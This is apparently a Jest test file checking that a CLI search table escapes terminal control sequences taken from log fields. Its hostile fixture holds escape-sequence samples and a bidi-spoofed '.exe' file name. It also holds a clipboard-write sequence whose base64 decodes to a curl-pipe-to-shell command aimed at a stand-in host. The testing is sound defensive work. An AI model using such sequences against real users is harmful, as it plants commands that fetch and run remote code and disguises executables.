/** `search` tables never pass terminal escape sequences from log fields to the analyst's terminal. */
import { escapeControls, formatTable } from '../../../../cli/search/format';

describe('search table output', () => {
  it('shows clear-screen, window-title and clipboard-write sequences escaped, never raw', () => {
    const hostile = {
      clear: '\u001b[2J\u001b[H',
      title: '\u001b]0;pwned\u0007',
      clipboard: '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007',
      bidi: 'invoice\u202egnp.exe',
    };
    const lines = formatTable(['clear', 'title', 'clipboard', 'bidi'], [hostile], 200);
    const text = lines.join('\n');
    // eslint-disable-next-line no-control-regex
    expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    expect(text).toContain('\\x1b[2J\\x1b[H');
    expect(text).toContain('\\x1b]0;pwned\\x07');
    expect(text).toContain('\\x1b]52;c;');
    expect(text).toContain('invoice\\u202egnp.exe');
  });

  it('keeps ordinary text, including non-ASCII, as it is', () => {
    expect(escapeControls('user é漢字 ok')).toBe('user é漢字 ok');
    expect(formatTable(['a'], [{ a: 'line one\nline two' }])[2]).toBe('line one line two');
  });

  it('escapes control characters in column names too', () => {
    expect(formatTable(['x\u001b[31m'], [])[0]).toBe('x\\x1b[31m');
  });
});
